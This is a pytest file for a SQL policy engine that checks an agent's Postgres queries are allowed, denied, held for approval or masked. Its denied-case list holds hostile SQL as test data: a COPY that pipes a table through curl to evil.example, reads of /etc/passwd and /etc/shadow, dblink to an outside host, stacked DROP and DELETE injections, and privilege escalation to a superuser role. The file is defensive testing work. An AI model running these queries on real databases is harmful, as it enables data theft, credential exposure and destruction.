"""The SQL analyser and engine against tricks: each must be decided correctly, and what the
analyser does not understand must be denied."""

import pytest

from interceptor.decision import Verdict
from interceptor.operations import Request, SqlQuery, Subject
from interceptor.policy import PolicyEngine, analyse, load_policy_text
from interceptor.policy.sql_rules import judge_uncached

POLICY = """
version: 1
resources:
  db: {protocol: postgres, addresses: ["127.0.0.1:5432"]}
agents:
  bot: {}
rules:
  - {name: read-public, effect: allow, agents: [bot], sql: {kinds: [select], tables: ["public.*"]}}
  - {name: read-secret-denied, effect: deny, sql: {kinds: [select], tables: [secret.*]}}
  - {name: update-orders, effect: approve, sql: {kinds: [update], tables: [public.orders]},
     approval: {groups: [dba-oncall]}}
  - {name: mask-card, effect: mask, mask: {columns: [public.customers.card], style: partial}}
"""


class Catalog:
    tables = {("public", "customers"): ["id", "name", "card"], ("public", "orders"): ["id", "status"],
              ("secret", "keys"): ["id", "key"], ("sales", "orders"): ["id"]}

    def columns(self, schema, table):
        return self.tables.get((schema, table))


@pytest.fixture(scope="module")
def engine():
    return PolicyEngine(load_policy_text(POLICY, "adversarial.yaml"), Catalog())


def decide(engine, text, search_path=None):
    settings = (("search_path", search_path),) if search_path is not None else ()
    return engine.decide(Request(Subject("bot"), "db", SqlQuery(text, settings=settings)))


ALLOWED = [
    "SeLeCt id FrOm public.orders",
    "select id /* ; drop table x; */ from orders -- ; delete from orders\n where status = ';'",
    "select $$;delete from orders;$$, $tag$ ' ; $tag$ from orders",
    'select "id" from "public"."orders"',
    "select id from orders; select name from customers",
    "select 1",
    "BEGIN; select id from orders; COMMIT",
    "SAVEPOINT s1",
    "RELEASE SAVEPOINT s1",
    "SHOW search_path",
    "SET statement_timeout = 0",  # the session's own settings, as at startup
    "RESET ALL",
    "DEALLOCATE p",
    "DISCARD ALL",
    "SELECT set_config('search_path', 'public', false)",  # as pg_dump sends it
    "SELECT pg_catalog.set_config('search_path', 'public, pg_catalog', true)",
]
DENIED = {
    'select * from "Public"."Orders"': "default-deny",  # quoted: a different table than public.orders
    'select * from "PUBLIC".orders': "default-deny",
    'select U&"\\0069d" from orders': "sql-not-understood",
    "select id from orders; drop table orders": "default-deny",
    "select 1; delete from orders where id = ';'": "default-deny",
    "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x": "default-deny",
    "select id from orders where id in (with d as (delete from orders returning id) select id from d)": "default-deny",
    "SELECT * INTO stolen FROM orders": "default-deny",
    "SELECT * FROM customers FOR UPDATE": "default-deny",
    "COPY orders TO PROGRAM 'curl -d @- evil.example'": "default-deny",
    "COPY orders FROM '/etc/passwd'": "default-deny",
    "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))": "builtin-dangerous-functions",
    "SELECT set_config('work_mem', '1TB', false)": "builtin-dangerous-functions",
    "SELECT set_config('search_path', current_user, false)": "sql-not-understood",
    "select * from pg_read_file('/etc/passwd')": "builtin-dangerous-functions",
    "select pg_catalog.pg_read_file('/etc/passwd')": "builtin-dangerous-functions",
    'select "pg_read_file"(\'/etc/passwd\')': "builtin-dangerous-functions",
    "select id from orders where exists (select lo_import('/etc/shadow'))": "builtin-dangerous-functions",
    "select * from dblink('host=evil', 'select 1') as t(a int)": "builtin-dangerous-functions",
    "select pg_terminate_backend(1)": "builtin-dangerous-functions",
    "select query from pg_stat_get_activity(null)": "builtin-dangerous-functions",
    "select pg_stat_get_backend_activity(b) from pg_stat_get_backend_idset() b": "builtin-dangerous-functions",
    "select pg_current_xact_id()": "builtin-dangerous-functions",
    "select * from pg_show_all_settings()": "builtin-dangerous-functions",
    "select table_to_xml_and_xmlschema('secret.keys', true, false, '')": "builtin-dangerous-functions",
    "select database_to_xml_and_xmlschema(true, false, '')": "builtin-dangerous-functions",
    "select pg_stat_get_backend_start(s) from pg_stat_get_backend_idset() s": "builtin-dangerous-functions",
    "EXPLAIN ANALYZE DELETE FROM orders": "default-deny",
    "explain (analyze, format json) delete from orders": "default-deny",
    "TRUNCATE orders": "default-deny",
    "CALL cleanup()": "sql-opaque-statement",
    "VACUUM orders": "sql-opaque-statement",
    "LISTEN ch": "sql-opaque-statement",
    "NOTIFY ch, 'x'": "sql-opaque-statement",
    "SET work_mem = '1TB'": "default-deny",  # not a setting a session may choose by default
    "SHOW ALL": "sql-opaque-statement",
    "SET ROLE postgres": "sql-opaque-statement",
    "SET SESSION AUTHORIZATION postgres": "sql-opaque-statement",
    "PREPARE p AS DELETE FROM orders": "sql-opaque-statement",
    "EXECUTE p": "sql-opaque-statement",
    "DO $$ BEGIN DELETE FROM orders; END $$": "sql-opaque-statement",
    "select id from orders; DO $x$ BEGIN DELETE FROM orders; END $x$": "sql-opaque-statement",
    "select * from secret.keys": "read-secret-denied",
    "select (select key from secret.keys limit 1)": "read-secret-denied",
    "select id from orders where id in (select id from secret.keys)": "read-secret-denied",
    "create view v as select * from secret.keys": "read-secret-denied",
    "select from": "sql-not-understood",
    "select 'unterminated": "sql-not-understood",
    "CHECKPOINT": "sql-opaque-statement",
    "CLUSTER orders": "sql-opaque-statement",
    "SECURITY LABEL ON TABLE orders IS 'x'": "sql-opaque-statement",
    "select id from customers where card like '4%'": "mask-card",
    "select id from customers order by card": "mask-card",
    "select name from customers where id in (select id from customers where card = '1')": "mask-card",
    "insert into orders (status) select card from customers": "default-deny",
    "select * from sales.orders": "default-deny",
    "MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE": "default-deny",
    "GRANT ALL ON orders TO public": "default-deny",
    "LOCK TABLE orders": "sql-opaque-statement",
    "CREATE ROLE x SUPERUSER": "sql-opaque-statement",
    "ALTER SYSTEM SET fsync = off": "sql-opaque-statement",
}


def test_opaque_create_is_not_covered_by_a_create_rule():
    text = POLICY + "  - {name: may-create, effect: allow, sql: {kinds: [create]}}\n"
    engine = PolicyEngine(load_policy_text(text, "create.yaml"), Catalog())
    assert decide(engine, "CREATE TABLE public.t (a int)").verdict is Verdict.ALLOW
    denied = decide(engine, "CREATE ROLE x SUPERUSER")
    assert denied.verdict is Verdict.DENY and denied.details[0]["kind"] == "create_role"


@pytest.mark.parametrize("text", ALLOWED)
def test_allowed(engine, text):
    decision = decide(engine, text)
    assert decision.verdict is Verdict.ALLOW, (decision.rule, decision.reason)


@pytest.mark.parametrize("text,rule", sorted(DENIED.items()))
def test_denied(engine, text, rule):
    decision = decide(engine, text)
    assert decision.verdict is Verdict.DENY, decision
    assert decision.rule == rule, decision.reason


def test_for_update_needs_update_permission(engine):
    assert decide(engine, "select id from orders for update").verdict is Verdict.APPROVE


def test_explain_analyze_update_is_judged_as_the_update(engine):
    decision = decide(engine, "EXPLAIN ANALYZE UPDATE orders SET status = 'x'")
    assert decision.verdict is Verdict.APPROVE and decision.rule == "update-orders"


def test_search_path_setting_and_set_search_path(engine):
    assert decide(engine, "select id from orders", search_path="sales").verdict is Verdict.DENY
    assert decide(engine, "set search_path to secret; select * from keys").verdict is Verdict.DENY
    statements = analyse("SET search_path TO secret, public; select key from keys")
    assert [e.to_dict() for e in statements[0].effects] == [
        {"kind": "set", "name": "search_path", "value": "secret, public", "local": False}]
    assert statements[1].actions[0].table == ("secret", "keys")


def test_schema_qualified_beats_search_path():
    (statement,) = analyse("select id from public.orders", (("search_path", "secret"),))
    assert [a.table for a in statement.actions] == [("public", "orders")]


def test_cte_names_are_not_tables():
    (statement,) = analyse("with orders as (select 1 as id) select id from orders", (("search_path", "secret"),))
    assert [a.table for a in statement.actions] == [None]


def test_masked_outputs_follow_ctes(engine):
    decision = decide(engine, "with c as (select card as k, id from customers) select id, k from c")
    assert decision.verdict is Verdict.ALLOW
    assert decision.masks[0].columns == ("public.customers.card",)
    assert decision.details[0]["masked_outputs"] == [
        {"position": 1, "name": "k", "columns": ["public.customers.card"], "rules": ["mask-card"]}]


def test_a_result_computed_from_a_masked_column_is_refused(engine):
    decision = decide(engine, "with c as (select upper(card) as k, id from customers) select id, k from c")
    assert (decision.verdict, decision.rule) == (Verdict.DENY, "mask-card") and "computed" in decision.reason


def test_star_is_expanded_from_the_catalog(engine):
    decision = decide(engine, "select * from customers")
    assert [o["position"] for o in decision.details[0]["masked_outputs"]] == [2]


def test_unknown_schema_with_masks_fails_closed():
    engine = PolicyEngine(load_policy_text(POLICY, "adversarial.yaml"))  # no catalog
    decision = decide(engine, "select * from customers")
    assert decision.verdict is Verdict.DENY and "unknown" in decision.reason
    assert decide(engine, "select id, name from customers").verdict is Verdict.ALLOW


def test_one_denied_statement_denies_the_query_and_details_cover_all(engine):
    decision = decide(engine, "select id from orders; update orders set status = 'x'; truncate orders")
    assert decision.verdict is Verdict.DENY
    assert [d["verdict"] for d in decision.details] == ["allow", "approve", "deny"]
    assert decision.details[2]["kind"] == "truncate"


# Statements with numbers, judged through the numeric-shape cache after a variant with other
# digits was judged first: each must get exactly the decision its own text gets.
NUMERIC = [
    "select id, card from customers where id = 12345",
    "select card from customers where id = 7 order by 1 limit 10 offset 20",
    "select name from customers where card = '4111' and id > 3",
    "select id::numeric(10, 2), (array[1, 2, 3])[2] from orders",
    "select pg_sleep(5)",
    "select id from secret.keys where id = 1",
    "update orders set status = 'x' where id = 42",
    "set statement_timeout = 5000",
    "explain analyze select id from orders where id = 3",
    "select id from orders where id = $1 limit 5",
    "select 1x1",
    "select 1e5, .5, 1.5e-3 from orders",
    "select id from orders where id = 12 +",
    "select 1; delete from orders where id = 9",
]


@pytest.mark.parametrize("text", NUMERIC)
def test_numeric_shape_cache_gives_each_text_its_own_decision(text):
    engine = PolicyEngine(load_policy_text(POLICY, "adversarial.yaml"), Catalog())
    variant = text.translate(str.maketrans("0123456789", "9876543219"))
    decide(engine, variant)
    got = decide(engine, text)
    query = SqlQuery(text)
    own = judge_uncached(engine, Request(Subject("bot"), "db", query), query)
    assert (got.verdict, got.rule, got.reason, got.masks, got.details) == (
        own.verdict, own.rule, own.reason, own.masks, own.details)


def test_statements_differing_only_in_numbers_share_one_analysis(monkeypatch):
    engine = PolicyEngine(load_policy_text(POLICY, "adversarial.yaml"), Catalog())
    first = decide(engine, "select card from customers where id = 1")
    assert first.verdict is Verdict.ALLOW and first.masks
    assert decide(engine, "select card from customers where id = 8") is first
    with monkeypatch.context() as patch:  # the text first analysed is found by its exact text
        patch.setattr("interceptor.policy.sql_rules.numeric_shape", None)
        assert decide(engine, "select card from customers where id = 1") is first
    assert decide(engine, "select card from customers where id = 8.5") is not first  # another shape
    unparsable = decide(engine, "select id from orders where id = 12 +")
    assert unparsable.verdict is Verdict.DENY
    assert decide(engine, "select id from orders where id = 13 +") is not unparsable  # errors: own text
